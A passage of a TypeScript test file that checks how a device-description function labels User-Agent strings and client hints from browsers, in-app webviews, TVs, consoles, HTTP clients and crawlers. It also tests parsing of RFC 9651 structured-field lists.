import { describe, expect, test } from 'vitest';
import { type ClientHints, describeDevice } from '../../../src/device/describe-device.ts';
import { cleanName } from '../../../src/device/names.ts';
import { parseBoolean, parseString, parseStringList } from '../../../src/device/structured-field.ts';
import { fc } from '../support/fast-check.ts';

const WINDOWS = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)';
const MAC = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)';
const LINUX = 'Mozilla/5.0 (X11; Linux x86_64)';
const CROS = 'Mozilla/5.0 (X11; CrOS x86_64 14541.0.0)';
const ANDROID = 'Mozilla/5.0 (Linux; Android 10; K)';
const PIXEL_VIEW = 'Mozilla/5.0 (Linux; Android 14; Pixel 7 Build/UQ1A.240205.002; wv)';
const IPHONE = 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X)';
const IPAD = 'Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X)';
const BLINK = 'AppleWebKit/537.36 (KHTML, like Gecko)';
const WEBKIT = 'AppleWebKit/605.1.15 (KHTML, like Gecko)';
const CHROME = `${BLINK} Chrome/124.0.0.0 Safari/537.36`;
const CHROME_MOBILE = `${BLINK} Chrome/124.0.0.0 Mobile Safari/537.36`;
const VIEW = `${BLINK} Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36`;
const IOS_SAFARI = `${WEBKIT} Version/17.4.1 Mobile/15E148 Safari/604.1`;
const IOS_VIEW = `${WEBKIT} Mobile/15E148`;

type Row = readonly [label: string, type: string, userAgent: string];

// biome-ignore format: a table has a row on each line
const BROWSERS: readonly Row[] = [
  ['Chrome on Mac OS', 'desktop', `${MAC} ${CHROME}`],
  ['Chrome on Windows', 'desktop', `${WINDOWS} ${CHROME}`],
  ['Chrome on Linux', 'desktop', `${LINUX} ${CHROME}`],
  ['Chrome on ChromeOS', 'desktop', `${CROS} ${CHROME}`],
  ['Chrome on Android', 'mobile', `${ANDROID} ${CHROME_MOBILE}`],
  ['Chrome on Android', 'tablet', `${ANDROID} ${CHROME}`],
  ['Chrome on Android', 'mobile', `Mozilla/5.0 (Linux; Android 12; CUBOT X30) ${CHROME_MOBILE}`],
  ['Chrome on Android', 'mobile', `Mozilla/5.0 (Linux; Android 12; CUBOT) ${CHROME_MOBILE}`],
  ['Chrome on Android', 'mobile', `Mozilla/5.0 (Linux; Android 8.1.0; XBot Junior) ${CHROME_MOBILE}`],
  ['Chrome on Android', 'tablet', `Mozilla/5.0 (Linux; Android 13; SM-X906C) ${CHROME}`],
  ['Chrome on iOS', 'mobile', `${IPHONE} ${WEBKIT} CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1`],
  ['Chromium on Ubuntu', 'desktop', `${LINUX} AppleWebKit/537.36 (KHTML, like Gecko) Ubuntu Chromium/80.0.3987.87 Chrome/80.0.3987.87 Safari/537.36`],
  ['Headless Chrome on Linux', 'bot', `${LINUX} ${BLINK} HeadlessChrome/124.0.0.0 Safari/537.36`],
  ['Safari on Mac OS', 'desktop', `${MAC} ${WEBKIT} Version/17.4.1 Safari/605.1.15`],
  ['Safari on iOS', 'mobile', `${IPHONE} ${IOS_SAFARI}`],
  // Safari 26 reports a frozen system version, 18.6. The label shows neither version.
  ['Safari on iOS', 'mobile', 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Mobile/15E148 Safari/604.1'],
  ['Safari on iPadOS', 'tablet', `${IPAD} ${WEBKIT} Version/17.4 Mobile/15E148 Safari/604.1`],
  ['Firefox on Windows', 'desktop', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0'],
  ['Firefox on Mac OS', 'desktop', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:125.0) Gecko/20100101 Firefox/125.0'],
  ['Firefox on Ubuntu', 'desktop', 'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0'],
  ['Firefox on Fedora', 'desktop', 'Mozilla/5.0 (X11; Fedora; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0'],
  ['Firefox on Linux', 'desktop', 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0'],
  ['Firefox on FreeBSD', 'desktop', 'Mozilla/5.0 (X11; FreeBSD amd64; rv:125.0) Gecko/20100101 Firefox/125.0'],
  ['Firefox on Android', 'mobile', 'Mozilla/5.0 (Android 14; Mobile; rv:125.0) Gecko/125.0 Firefox/125.0'],
  ['Firefox on Android', 'tablet', 'Mozilla/5.0 (Android 14; Tablet; rv:125.0) Gecko/125.0 Firefox/125.0'],
  ['Firefox on iOS', 'mobile', `${IPHONE} ${WEBKIT} FxiOS/125.0 Mobile/15E148 Safari/605.1.15`],
  ['Firefox on KaiOS', 'mobile', 'Mozilla/5.0 (Mobile; Nokia_8110_4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5'],
  ['Edge on Windows', 'desktop', `${WINDOWS} ${CHROME} Edg/124.0.2478.67`],
  ['Edge on Android', 'mobile', `${ANDROID} ${CHROME_MOBILE} EdgA/124.0.2478.62`],
  ['Edge on iOS', 'mobile', `${IPHONE} ${WEBKIT} Version/17.0 EdgiOS/124.0.2478.71 Mobile/15E148 Safari/605.1.15`],
  ['Opera on Windows', 'desktop', `${WINDOWS} ${CHROME} OPR/109.0.0.0`],
  ['Opera on iOS', 'mobile', `${IPHONE} ${WEBKIT} Version/17.4 Mobile/15E148 Safari/604.1 OPT/4.6.1`],
  ['Opera Mini on Android', 'mobile', 'Opera/9.80 (Android; Opera Mini/36.2/119.132; U; id) Presto/2.12.423 Version/12.16'],
  ['Samsung Internet on Android', 'mobile', `${ANDROID} ${BLINK} SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36`],
  ['Vivaldi on Linux', 'desktop', `${LINUX} ${CHROME} Vivaldi/6.7.3329.17`],
  ['Yandex Browser on Windows', 'desktop', `${WINDOWS} ${BLINK} Chrome/122.0.0.0 YaBrowser/24.4.0.0 Safari/537.36`],
  ['Huawei Browser on HarmonyOS', 'mobile', 'Mozilla/5.0 (Linux; Android 12; HarmonyOS; NOH-AN00; HMSCore 6.13.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.88 HuaweiBrowser/14.0.7.302 Mobile Safari/537.36'],
  ['Aloha Browser on Android', 'mobile', `${ANDROID} ${CHROME_MOBILE} AlohaBrowser/5.10.4`],
  ['DuckDuckGo on Mac OS', 'desktop', `${MAC} ${WEBKIT} Version/17.4 Safari/605.1.15 Ddg/17.4`],
  ['DuckDuckGo on Windows', 'desktop', `${WINDOWS} ${CHROME} Edg/124.0.0.0 Ddg/124.0.0.0`],
  ['DuckDuckGo on iOS', 'mobile', `${IPHONE} ${WEBKIT} Version/17.4 Mobile/15E148 DuckDuckGo/7 Safari/605.1.15`],
  ['Internet Explorer on Windows', 'desktop', 'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko'],
  ['GNOME Web on Linux', 'desktop', `${LINUX} ${WEBKIT} Version/16.0 Safari/605.1.15 Epiphany/605.1.15`],
];

// biome-ignore format: a table has a row on each line
const IN_APPS: readonly Row[] = [
  ['Facebook on iOS', 'mobile', `${IPHONE} ${IOS_VIEW} [FBAN/FBIOS;FBAV/460.0.0.35.98;FBBV/589912345;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.4.1;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]`],
  ['Facebook on Android', 'mobile', `${PIXEL_VIEW} ${VIEW} [FB_IAB/FB4A;FBAV/460.0.0.38.109;]`],
  ['Messenger on iOS', 'mobile', `${IPHONE} ${IOS_VIEW} [FBAN/MessengerForiOS;FBAV/454.0.0.39.105;FBDV/iPhone14,5;FBSN/iOS]`],
  ['Instagram on iOS', 'mobile', `${IPHONE} ${IOS_VIEW} Instagram 327.0.8.25.91 (iPhone14,5; iOS 17_4_1; en_US; en; scale=3.00; 1170x2532)`],
  ['Instagram on Android', 'mobile', `${PIXEL_VIEW} ${VIEW} Instagram 327.0.0.48.93 Android (34/14; 420dpi; 1080x2205; Google/google; Pixel 7; panther)`],
  ['Threads on iOS', 'mobile', `${IPHONE} ${IOS_VIEW} Barcelona 326.0.0.33.98 (iPhone14,5; iOS 17_4_1; en_GB; scale=3.00)`],
  ['TikTok on Android', 'mobile', `${PIXEL_VIEW} ${VIEW} trill_340103 JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/musical_ly app_version/34.1.3 ByteLocale/en`],
  ['WeChat on iOS', 'mobile', `${IPHONE} ${IOS_VIEW} MicroMessenger/8.0.48(0x1800302d) NetType/WIFI Language/en`],
  ['Google app on iOS', 'mobile', `${IPHONE} ${WEBKIT} GSA/313.0.624682421 Mobile/15E148 Safari/604.1`],
  ['LinkedIn on iOS', 'mobile', `${IPHONE} ${IOS_VIEW} [LinkedInApp]/9.29.7804`],
  ['Line on Android', 'mobile', `${PIXEL_VIEW} ${VIEW} Line/14.5.1/IAB`],
  ['Line on iOS', 'mobile', `${IPHONE} ${IOS_VIEW} Safari Line/14.5.1`],
  ['Snapchat on iOS', 'mobile', `${IPHONE} ${WEBKIT} Version/17.4.1 Mobile/15E148 Snapchat/12.82.0.42 (like Safari/604.1)`],
  ['Pinterest on Android', 'mobile', `${PIXEL_VIEW} ${VIEW} [Pinterest/Android]`],
  // An app that adds its own product token, as the platforms' guides advise.
  ['AcmeShop on iOS', 'mobile', `${IPHONE} ${IOS_VIEW} AcmeShop/4.12.0`],
  ['AcmeShop on Android', 'mobile', `${PIXEL_VIEW} ${VIEW} AcmeShop/4.12.0`],
  // An app that adds no product token, and a web page on the home screen.
  ['App on iOS', 'mobile', `${IPHONE} ${IOS_VIEW}`],
  ['App on Android', 'mobile', `${PIXEL_VIEW} ${VIEW}`],
  ['Slack on Mac OS', 'desktop', `${MAC} ${BLINK} Slack/4.37.101 Chrome/122.0.6261.156 Electron/29.3.0 Safari/537.36`],
  ['VS Code on Windows', 'desktop', `${WINDOWS} ${BLINK} Code/1.88.1 Chrome/122.0.6261.156 Electron/28.2.8 Safari/537.36`],
  ['AcmeDesk on Linux', 'desktop', `${LINUX} ${BLINK} AcmeDesk/2.0.0-beta.1 Chrome/122.0.6261.156 Electron/29.3.0 Safari/537.36`],
  ['App on Windows', 'desktop', `${WINDOWS} ${BLINK} Chrome/122.0.6261.156 Electron/29.3.0 Safari/537.36`],
];

// biome-ignore format: a table has a row on each line
const THINGS: readonly Row[] = [
  ['Browser on PlayStation', 'console', 'Mozilla/5.0 (PlayStation; PlayStation 5/6.50) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.4 Safari/605.1.15'],
  ['Edge on Xbox', 'console', `Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) ${CHROME} Edg/124.0.0.0`],
  ['Browser on Nintendo Switch', 'console', 'Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/606.4 (KHTML, like Gecko) NF/6.0.1.15.4 NintendoBrowser/5.1.0.20393'],
  ['Samsung Internet on Tizen', 'tv', 'Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/3.2 Chrome/76.0.3809.146 TV Safari/537.36'],
  ['Browser on Tizen', 'tv', 'Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) 94.0.4606.31/7.0 TV Safari/537.36'],
  ['Browser on webOS', 'tv', 'Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.128 Safari/537.36 WebAppManager'],
  ['Chrome on Android TV', 'tv', `Mozilla/5.0 (Linux; Android 10; BRAVIA 4K UR2 Build/QTG3.200305.006.S292) ${CHROME}`],
  ['Silk on Fire OS', 'tablet', 'Mozilla/5.0 (Linux; Android 11; KFRAPWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/122.3.1 like Chrome/122.0.6261.128 Safari/537.36'],
  ['Browser on Chromecast', 'tv', `${LINUX.replace('x86_64', 'armv7l')} ${BLINK} Chrome/108.0.5359.124 Safari/537.36 CrKey/1.56.500000`],
  ['Browser on Smart TV', 'tv', 'Mozilla/5.0 (Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/84.0.4147.125 Safari/537.36 HbbTV/1.5.1 (+DRM; Acme; X1; 1.0;)'],
  ['AppleCoreMedia on tvOS', 'tv', 'AppleCoreMedia/1.0.0.21K365 (Apple TV; U; CPU OS 17_4 like Mac OS X; en_us)'],
  ['Roku', 'tv', 'Roku/DVP-12.5 (12.5.0.4178)'],
  ['Meta Quest Browser', 'wearable', 'Mozilla/5.0 (X11; Linux x86_64; Quest 3) AppleWebKit/537.36 (KHTML, like Gecko) OculusBrowser/32.0.0.14.52 Chrome/122.0.6261.128 VR Safari/537.36'],
  ['AcmeFit on watchOS', 'wearable', 'AcmeFit/3.1 (Apple Watch; watchOS 10.4; Watch6,2)'],
  ['Tesla', 'embedded', 'Mozilla/5.0 (X11; GNU/Linux) AppleWebKit/537.36 (KHTML, like Gecko) Chromium/79.0.3945.130 Chrome/79.0.3945.130 Safari/537.36 Tesla/2024.8.9'],
];

// biome-ignore format: a table has a row on each line
const PROGRAMS: readonly Row[] = [
  ['curl', 'client', 'curl/8.4.0'],
  ['Wget on Linux', 'client', 'Wget/1.21.4 (linux-gnu)'],
  ['okhttp', 'client', 'okhttp/4.12.0'],
  ['Dart', 'client', 'Dart/3.3 (dart:io)'],
  ['python-requests', 'client', 'python-requests/2.31.0'],
  ['aiohttp', 'client', 'Python/3.11 aiohttp/3.9.3'],
  ['Python', 'client', 'Python-urllib/3.12'],
  ['Go-http-client', 'client', 'Go-http-client/2.0'],
  ['axios', 'client', 'axios/1.6.8'],
  ['node', 'client', 'node'],
  ['Postman', 'client', 'PostmanRuntime/7.37.3'],
  ['Insomnia', 'client', 'insomnia/9.1.0'],
  ['HTTPie', 'client', 'HTTPie/3.2.2'],
  ['PowerShell on Windows', 'client', 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506'],
  ['Apache-HttpClient', 'client', 'Apache-HttpClient/5.3 (Java/21.0.2)'],
  ['MyApp', 'client', 'MyApp/1.2 (build 7)'],
  ['MyApp on iOS', 'mobile', 'MyApp/1.2 (iPhone; iOS 17.4; Scale/3.00)'],
  ['My App on iOS', 'mobile', 'My App/1.2 (com.acme.app; build:3; iOS 17.4.0) Alamofire/5.9.0'],
  ['My App on iPadOS', 'tablet', 'My App/1.2 (iPad; iOS 17.4; Scale/2.00)'],
  ['MyApp on Mac OS', 'client', 'MyApp/1.2 (com.acme.app; build:3; macOS 14.4.0) Alamofire/5.9.0'],
  ['MyApp on Android', 'mobile', 'MyApp/1 Dalvik/2.1.0 (Linux; U; Android 13; SM-S908E Build/TP1A.220624.014)'],
  ['Instagram on Android', 'mobile', 'Instagram 327.0.0.48.93 Android (34/14; 420dpi; 1080x2205; Google/google; Pixel 7)'],
  // Java's HTTP client on Android names the system, but not the app.
  ['App on Android', 'mobile', 'Dalvik/2.1.0 (Linux; U; Android 13; SM-S908E Build/TP1A.220624.014)'],
  // Apple's networking library names the app. It names the system only on an Intel Mac.
  ['MyApp', 'client', 'MyApp/123 CFNetwork/1494.0.7 Darwin/23.4.0'],
  ['My App', 'client', 'My%20App/123 CFNetwork/1494.0.7 Darwin/23.4.0'],
  ['Cafe', 'client', 'Caf%C3%A9/1 CFNetwork/1494.0.7 Darwin/23.4.0'],
  ['Unknown app', 'client', '%E5%BE%AE%E4%BF%A1/8.0 CFNetwork/1494.0.7 Darwin/23.4.0'],
  ['MyApp on Mac OS', 'client', 'MyApp/123 CFNetwork/1220.1 Darwin/20.3.0 (x86_64)'],
  // Here, Mint is an app and not the system of that name.
  ['Mint', 'client', 'Mint/5.0'],
  ['Mint on iOS', 'mobile', 'Mint/5.0 (iPhone; iOS 17.4)'],
  ['Googlebot', 'bot', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'],
  ['Googlebot', 'bot', `Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) ${CHROME_MOBILE} (compatible; Googlebot/2.1; +http://www.google.com/bot.html)`],
  ['bingbot', 'bot', `Mozilla/5.0 ${BLINK.replace(')', '; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)')} Chrome/116.0.0.0 Safari/537.36`],
  ['GPTBot', 'bot', `Mozilla/5.0 ${BLINK.replace(')', '; compatible; GPTBot/1.2; +https://openai.com/gptbot)')}`],
  ['facebookexternalhit', 'bot', 'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)'],
  ['Slackbot-LinkExpanding', 'bot', 'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)'],
  ['AcmeScan', 'bot', 'Mozilla/5.0 (compatible; AcmeScan/2.0; +https://acme.example/scan)'],
];

const CHROME_BRANDS = '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"';

type HintRow = readonly [label: string, type: string, userAgent: string | null, hints: ClientHints];

// biome-ignore format: a table has a row on each line
const HINTED: readonly HintRow[] = [
  ['Chrome on Mac OS', 'desktop', `${MAC} ${CHROME}`, { brands: CHROME_BRANDS, mobile: '?0', platform: '"macOS"' }],
  ['Chrome on ChromeOS', 'desktop', `${CROS} ${CHROME}`, { brands: CHROME_BRANDS, mobile: '?0', platform: '"Chrome OS"' }],
  ['Chrome on Android', 'mobile', `${ANDROID} ${CHROME_MOBILE}`, { brands: CHROME_BRANDS, mobile: '?1', platform: '"Android"' }],
  ['Chrome on Android', 'tablet', `${ANDROID} ${CHROME}`, { brands: CHROME_BRANDS, mobile: '?0', platform: '"Android"' }],
  ['Brave on Windows', 'desktop', `${WINDOWS} ${CHROME}`, { brands: '"Chromium";v="124", "Brave";v="124", "Not-A.Brand";v="99"', mobile: '?0', platform: '"Windows"' }],
  ['Edge on Windows', 'desktop', `${WINDOWS} ${CHROME} Edg/124.0.0.0`, { brands: '"Chromium";v="124", "Microsoft Edge";v="124", "Not-A.Brand";v="99"', mobile: '?0', platform: '"Windows"' }],
  ['Opera on Mac OS', 'desktop', `${MAC} ${CHROME} OPR/109.0.0.0`, { brands: '"Not A(Brand";v="99", "Opera";v="109", "Chromium";v="124"', mobile: '?0', platform: '"macOS"' }],
  ['Opera on Android', 'mobile', `${ANDROID} ${CHROME_MOBILE} OPR/81.0.0.0`, { brands: '" Not A;Brand";v="99", "Chromium";v="124", "Opera";v="109", "OperaMobile";v="81"', mobile: '?1', platform: '"Android"' }],
  ['Opera GX on Windows', 'desktop', `${WINDOWS} ${CHROME} OPR/109.0.0.0`, { brands: '"Opera GX";v="109", "Not.A/Brand";v="8", "Chromium";v="124"', mobile: '?0', platform: '"Windows"' }],
  ['Vivaldi on Windows', 'desktop', `${WINDOWS} ${CHROME}`, { brands: '"Chromium";v="124", "Vivaldi";v="6.7", "Not-A.Brand";v="99"', mobile: '?0', platform: '"Windows"' }],
  ['Samsung Internet on Android', 'mobile', `${ANDROID} ${BLINK} SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36`, { brands: '"Not;A=Brand";v="8", "Chromium";v="117", "Samsung Internet";v="24.0"', mobile: '?1', platform: '"Android"' }],
  ['Yandex Browser on Windows', 'desktop', `${WINDOWS} ${CHROME}`, { brands: '"Chromium";v="122", "YaBrowser";v="24.4", "Not=A?Brand";v="99", "Yowser";v="2.5"', mobile: '?0', platform: '"Windows"' }],
  ['DuckDuckGo on Android', 'mobile', `${ANDROID} ${CHROME_MOBILE}`, { brands: '"DuckDuckGo";v="124", "Chromium";v="124", "Not-A.Brand";v="99"', mobile: '?1', platform: '"Android"' }],
  ['Chromium on Linux', 'desktop', `${LINUX} ${CHROME}`, { brands: '"Chromium";v="124", "Not-A.Brand";v="99"', mobile: '?0', platform: '"Linux"' }],
  ['Headless Chrome on Mac OS', 'bot', `${MAC} ${CHROME}`, { brands: '"HeadlessChrome";v="124", "Chromium";v="124", "Not A(Brand";v="24"', mobile: '?0', platform: '"macOS"' }],
  // An unknown brand is shown as a browser of that name.
  ['Xwebs mega on Windows', 'desktop', `${WINDOWS} ${CHROME}`, { brands: '"Chrome"; v="73", "Xwebs mega"; v="60", "Chromium"; v="73", "(Not;Browser"; v="12"', mobile: '?0', platform: '"Windows"' }],
  // An app that embeds an engine is named by its own product token, if it has one.
  ['App on Android', 'mobile', `${PIXEL_VIEW} ${VIEW}`, { brands: '"Chromium";v="124", "Android WebView";v="124", "Not-A.Brand";v="99"', mobile: '?1', platform: '"Android"' }],
  ['App on Android', 'mobile', `${ANDROID} ${CHROME_MOBILE}`, { brands: '"Chromium";v="124", "Android WebView";v="124", "Not-A.Brand";v="99"', mobile: '?1', platform: '"Android"' }],
  ['Facebook on Android', 'mobile', `${PIXEL_VIEW} ${VIEW} [FB_IAB/FB4A;FBAV/460.0.0.38.109;]`, { brands: '"Chromium";v="124", "Android WebView";v="124", "Not-A.Brand";v="99"', mobile: '?1', platform: '"Android"' }],
  ['App on Windows', 'desktop', `${WINDOWS} ${CHROME}`, { brands: '"Microsoft Edge";v="124", "Chromium";v="124", "Not-A.Brand";v="99", "Microsoft Edge WebView2";v="124"', mobile: '?0', platform: '"Windows"' }],
  ['DuckDuckGo on Windows', 'desktop', `${WINDOWS} ${CHROME} Edg/124.0.0.0 Ddg/124.0.0.0`, { brands: '"Microsoft Edge";v="124", "Chromium";v="124", "Not-A.Brand";v="99", "Microsoft Edge WebView2";v="124"', mobile: '?0', platform: '"Windows"' }],
  ['Slack on Mac OS', 'desktop', `${MAC} ${BLINK} Slack/4.37.101 Chrome/122.0.6261.156 Electron/29.3.0 Safari/537.36`, { brands: '"Not(A:Brand";v="24", "Chromium";v="122"', mobile: '?0', platform: '"macOS"' }],
  // The platform hint names the family of the system. The User-Agent may be more precise.
  ['Chromium on Ubuntu', 'desktop', 'Mozilla/5.0 (X11; Ubuntu; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36', { brands: '"Chromium";v="124", "Not-A.Brand";v="99"', platform: '"Linux"', mobile: '?0' }],
  ['Edge on Xbox', 'console', `Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) ${CHROME} Edg/124.0.0.0`, { brands: '"Microsoft Edge";v="124", "Chromium";v="124"', platform: '"Windows"', mobile: '?0' }],
  ['Chrome on Android', 'tablet', `${LINUX} ${CHROME}`, { brands: CHROME_BRANDS, platform: '"Android"', mobile: '?0' }],
  ['Chrome on Acme OS', 'desktop', `${LINUX} ${CHROME}`, { brands: CHROME_BRANDS, platform: '"Acme OS"', mobile: '?0' }],
  ['Chrome on Windows', 'desktop', `${WINDOWS} ${CHROME}`, { brands: CHROME_BRANDS, platform: '"Unknown"', mobile: '?0' }],
  // Hints without a User-Agent are enough.
  ['Chrome on Windows', 'desktop', null, { brands: CHROME_BRANDS, mobile: '?0', platform: '"Windows"' }],
  ['Chrome on Android', 'mobile', '', { brands: CHROME_BRANDS, mobile: '?1', platform: '"Android"' }],
  // The form factor counts if the app has requested this hint.
  ['Chrome on Android', 'tablet', `${ANDROID} ${CHROME_MOBILE}`, { brands: CHROME_BRANDS, mobile: '?1', platform: '"Android"', formFactors: '"Mobile", "Tablet"' }],
  ['Chrome on Android', 'wearable', `${ANDROID} ${CHROME_MOBILE}`, { brands: CHROME_BRANDS, mobile: '?0', platform: '"Android"', formFactors: '"XR"' }],
];

const shown = ({ label, type }: { label: string; type: string }): readonly string[] => [label, type];

describe('names what people call it', () => {
  test.each(BROWSERS)('DEV-4: %s (%s) from the User-Agent alone: %s', (label, type, userAgent) => {
    expect(shown(describeDevice(userAgent))).toEqual([label, type]);
  });

  test.each(IN_APPS)('DEV-4: %s (%s), a page within an app: %s', (label, type, userAgent) => {
    expect(shown(describeDevice(userAgent))).toEqual([label, type]);
  });

  test.each(THINGS)('DEV-4: %s (%s), neither computer nor phone: %s', (label, type, userAgent) => {
    expect(shown(describeDevice(userAgent))).toEqual([label, type]);
  });

  test.each(PROGRAMS)('DEV-4: %s (%s), a program: %s', (label, type, userAgent) => {
    expect(shown(describeDevice(userAgent))).toEqual([label, type]);
  });

  test.each(HINTED)('DEV-1: %s (%s) with client hints: %s', (label, type, userAgent, hints) => {
    expect(shown(describeDevice(userAgent, hints))).toEqual([label, type]);
  });

  test('DEV-4: an iPad that asks for the desktop’s pages: other browsers tell, Safari cannot be told from a Mac’s', () => {
    const chrome = `${MAC} ${WEBKIT} CriOS/124.0.6367.88 Version/11.1.1 Safari/605.1.15`;
    const firefox =
      'Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:125.0) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/125.0 Safari/605.1.15';
    const safari = `${MAC} ${WEBKIT} Version/17.4 Safari/605.1.15`;
    expect(shown(describeDevice(chrome))).toEqual(['Chrome on iPadOS', 'tablet']);
    expect(shown(describeDevice(firefox))).toEqual(['Firefox on iPadOS', 'tablet']);
    expect(shown(describeDevice(safari))).toEqual(['Safari on Mac OS', 'desktop']);
  });

  test.each([undefined, null, '', ' ', '-', 'Mozilla/5.0', 'Mozilla/4.0 (compatible;)'])(
    'nothing is known of %j',
    (userAgent) => {
      const nothing = { label: 'Unknown device', browser: null, os: null, type: 'unknown' };
      expect(describeDevice(userAgent)).toEqual(nothing);
      expect(describeDevice(userAgent, {})).toEqual(nothing);
      expect(describeDevice(userAgent, null)).toEqual(nothing);
    },
  );

  test('half of it is known', () => {
    expect(describeDevice('Mozilla/5.0 (Windows NT 10.0; Win64; x64)')).toEqual({
      label: 'Windows device',
      browser: null,
      os: 'Windows',
      type: 'desktop',
    });
    expect(describeDevice(null, { mobile: '?1' })).toEqual({
      label: 'Unknown device',
      browser: null,
      os: null,
      type: 'mobile',
    });
  });
});

describe('browser and os decide whether it is the same browser', () => {
  test('an app that does not say its name has none: it never passes for another', () => {
    expect(describeDevice(`${IPHONE} ${IOS_VIEW}`).browser).toBeNull();
    expect(describeDevice('Dalvik/2.1.0 (Linux; U; Android 13; SM-S908E)').browser).toBeNull();
  });

  // biome-ignore format: a table has a row on each line
  const SAME: readonly (readonly [userAgent: string, brands: string, platform: string])[] = [
    [`${MAC} ${CHROME}`, CHROME_BRANDS, '"macOS"'],
    [`${WINDOWS} ${CHROME}`, CHROME_BRANDS, '"Windows"'],
    [`${CROS} ${CHROME}`, CHROME_BRANDS, '"Chromium OS"'],
    [`${ANDROID} ${CHROME_MOBILE}`, CHROME_BRANDS, '"Android"'],
    [`${WINDOWS} ${CHROME} Edg/124.0.0.0`, '"Chromium";v="124", "Microsoft Edge";v="124"', '"Windows"'],
    [`${MAC} ${CHROME} OPR/109.0.0.0`, '"Opera";v="109", "Chromium";v="124"', '"macOS"'],
    [`${ANDROID} ${BLINK} SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36`, '"Samsung Internet";v="24.0"', '"Android"'],
    [`${WINDOWS} ${BLINK} Chrome/122.0.0.0 YaBrowser/24.4.0.0 Safari/537.36`, '"YaBrowser";v="24.4", "Yowser";v="2.5"', '"Windows"'],
    [`${LINUX} ${CHROME} Vivaldi/6.7.3329.17`, CHROME_BRANDS, '"Linux"'],
    [`${ANDROID} ${BLINK} Chrome/99.0.4844.88 HuaweiBrowser/14.0.7.302 Mobile Safari/537.36`, '"HuaweiBrowser";v="14"', '"Android"'],
    [`${PIXEL_VIEW} ${VIEW} AcmeShop/4.12.0`, '"Android WebView";v="124", "Chromium";v="124"', '"Android"'],
  ];

  test.each(SAME)('DEV-4: the same with hints and without: %s', (userAgent, brands, platform) => {
    const mobile = userAgent.includes('Mobile') ? '?1' : '?0';
    expect(describeDevice(userAgent, { brands, platform, mobile })).toEqual(describeDevice(userAgent));
  });

  test('the same in every version', () => {
    const version = fc.tuple(fc.nat(999), fc.nat(9999), fc.nat(9999)).map((parts) => parts.join('.'));
    const known = [...BROWSERS, ...IN_APPS].filter(([, , userAgent]) =>
      /(?:Chrome|Safari|Firefox)\/\d/.test(userAgent),
    );
    fc.assert(
      fc.property(fc.constantFrom(...known), version, version, ([, , userAgent], engine, product) => {
        const later = userAgent
          .replace(/(Chrome|Version|CriOS|HeadlessChrome|SamsungBrowser)\/[\d.]+/g, `$1/${engine}`)
          .replace(/(Firefox|FxiOS|EdgA?|EdgiOS|OPR|YaBrowser|Vivaldi|AcmeShop|Slack)\/[\d.]+/g, `$1/${product}`);
        expect(describeDevice(later)).toEqual(describeDevice(userAgent));
      }),
    );
  });
});

describe('client hints', () => {
  const LISTS: readonly (readonly [field: string, strings: readonly string[] | null])[] = [
    ['"a"', ['a']],
    [' "a" ,\t"b";v="1";q=2 ', ['a', 'b']],
    ['"a";v="1,\\"2";x, "b"', ['a', 'b']],
    ['"a \\"quoted\\" \\\\ brand"', ['a "quoted" \\ brand']],
    ['', null],
    ['"a",', null],
    [',"a"', null],
    ['"a" "b"', null],
    ['"a', null],
    ['"a\\x"', null],
    ['"ä"', null],
    ['"a\n"', null],
    ['a;v="1"', null],
    ['("a" "b")', null],
    ['"(Not;Browser"; v="12", Chromium"; v="73"', null],
    [`"${'a'.repeat(1024)}"`, null],
  ];

  test.each(LISTS)('DEV-1: the list %s is %j (RFC 9651)', (field, strings) => {
    expect(parseStringList(field)).toEqual(strings);
  });

  test.each([
    ['"macOS"', 'macOS'],
    ['"macOS";v=1', 'macOS'],
    ['macOS', null],
